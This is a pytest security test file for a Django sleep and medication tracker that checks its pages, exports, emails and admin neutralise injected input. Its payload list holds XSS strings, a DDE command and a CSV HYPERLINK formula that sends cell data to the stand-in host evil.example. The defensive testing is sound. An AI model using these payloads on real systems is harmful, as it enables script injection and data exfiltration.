"""An XSS corpus in every free-text field a user can type, rendered back everywhere: every
page of the user's own, the shared report, the CSV (formula injection neutralised), the JSON
exports and API, the PDF's HTML (what WeasyPrint is given), the emails and the admin.

Each payload goes into the display name, night notes and tags, dose notes, medicine and iron
product names, lab notes, the experiment's amendment reason, the share label and the API
token's name (trimmed to each field's length).
"""

import csv
import io
from unittest import mock

import pytest
import time_machine
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from reminders import dispatch
from tests.factories import DEFAULT_PASSWORD, UserFactory
from tests.pdf_download import pdf_download
from tests.portal import test_access_matrix as matrix
from tests.security.conftest import NOW, populate

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '"><img src=x onerror=alert(1)>tpl{{7*7}}<script>alert(2)</script>',
    "javascript:alert(3)//'\"><svg/onload=alert(4)>",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0 <b>bold</b>",
]
# What an unescaped payload would leave in HTML (escaped, each is &lt;...&gt; instead).
LIVE_MARKUP = ("<img src=x", "<svg/onload", "<script>alert", "<b>bold</b>", "tpl49")
JAVASCRIPT_URL = ('href="javascript:', "href='javascript:", 'src="javascript:')


def _html_is_inert(text: str, where: str) -> None:
    live = [m for m in LIVE_MARKUP + JAVASCRIPT_URL if m in text]
    assert not live, f"{where}: {live}"


@pytest.fixture(params=PAYLOADS, ids=["html", "javascript-url", "csv-formula", "dde"])
def payload(request):
    return request.param


@pytest.fixture
def world(user, payload):
    with time_machine.travel(NOW, tick=False):
        yield populate(user, payload)


def test_every_page_of_the_user_renders_the_corpus_inert(world, user, payload):
    client = Client()
    client.force_login(user)
    not_pages = {"tracker:report_pdf", "accounts:export", "sharing:fhir", "tracker:export_csv"}
    pages = [matrix.concrete_url(n, a) for n, a in matrix.named(matrix.USER) if n not in not_pages]
    owned = {"night": world["night"], "dose": world["dose"], "medicine": world["medicine"],
             "lab": world["lab"], "share": world["share"], "token": world["api_token"],
             "sleep_import": world["sleep_import"], "device": world["device"],
             "pdf_job": world["pdf_job"]}  # fmt: skip
    pages += [
        matrix.concrete_url(
            n, a, **{matrix.owner_argument(a): str(owned[matrix.OWNED_BY_URL[n]].pk)}
        )
        for n, a in matrix.named(matrix.OWNER)
    ]
    shown = 0
    with time_machine.travel(NOW, tick=False):
        client.post(reverse("account_reauthenticate"), {"password": DEFAULT_PASSWORD})
        for url in pages:
            response = client.get(url)
            if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                continue
            _html_is_inert(response.content.decode(), url)
            shown += escape(payload[:14]) in response.content.decode()
    assert shown >= 8  # the payload really came back on the pages that show it


def test_the_shared_report_and_the_pdf_html_render_it_inert(world, user):
    with time_machine.travel(NOW, tick=False):
        reader = Client()
        report = reader.get(reverse("sharing:open", args=[world["share_token"]]))
        assert report.status_code == 200
        _html_is_inert(report.text, "shared report")
        owner = Client()
        owner.force_login(user)
        given = {}

        def capture(html, paper=""):
            given["html"] = html
            return b"%PDF-1.7"

        with mock.patch("tracker.pdf_jobs.report_pdf_bytes", side_effect=capture):
            assert pdf_download(owner, reverse("tracker:report_pdf")).status_code == 200
    _html_is_inert(given["html"], "PDF html")


def test_csv_cells_never_start_a_formula(world, user, payload):
    client = Client()
    client.force_login(user)
    with time_machine.travel(NOW, tick=False):
        body = client.get(reverse("tracker:export_csv")).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-")
                and not c[1:].replace(".", "").isdigit()]  # fmt: skip
    assert not formulas
    if payload[0] in "=+":
        assert "'" + payload in cells  # the notes are there, neutralised
    else:
        assert payload in cells


def test_json_exports_and_the_api_carry_it_as_plain_data(world, user, payload):
    client = Client()
    client.force_login(user)
    with time_machine.travel(NOW, tick=False):
        client.post(reverse("account_reauthenticate"), {"password": DEFAULT_PASSWORD})
        for url in (reverse("accounts:export"), reverse("sharing:fhir")):
            response = client.get(url)
            assert response["Content-Type"].startswith(("application/json", "application/fhir"))
            assert "nosniff" == response["X-Content-Type-Options"]
            assert payload in _strings(response.json()), url
        api = client.get(
            "/api/v1/nights/", HTTP_AUTHORIZATION=f"Bearer {world['api_secret']}"
        ).json()
    assert payload in _strings(api)


def _strings(data) -> set[str]:
    """Every string value in a JSON document, exactly as stored."""
    if isinstance(data, dict):
        return set().union(set(), *map(_strings, data.values()))
    if isinstance(data, list):
        return set().union(set(), *map(_strings, data))
    return {data} if isinstance(data, str) else set()


def test_emails_render_it_inert(world, user, payload):
    mail.outbox = []
    with time_machine.travel(NOW, tick=False):
        assert dispatch.deliveries_send(delivery_ids=[world["delivery"].pk], now=NOW) == 1
    (message,) = mail.outbox
    _html_is_inert(message.alternatives[0][0], "email html")
    assert "\n" not in message.subject and payload not in message.subject


def test_the_admin_renders_it_inert(world, user, settings):
    settings.ADMIN_REQUIRE_MFA = False
    staff = Client()
    staff.force_login(UserFactory(is_staff=True, is_superuser=True))
    with time_machine.travel(NOW, tick=False):
        for url in (
            reverse("admin:accounts_user_changelist"),
            reverse("admin:accounts_user_change", args=[user.pk]),
            reverse("admin:reminders_delivery_changelist"),
            reverse("admin:reminders_delivery_change", args=[world["delivery"].pk]),
        ):
            response = staff.get(url)
            assert response.status_code == 200, url
            _html_is_inert(response.content.decode(), url)
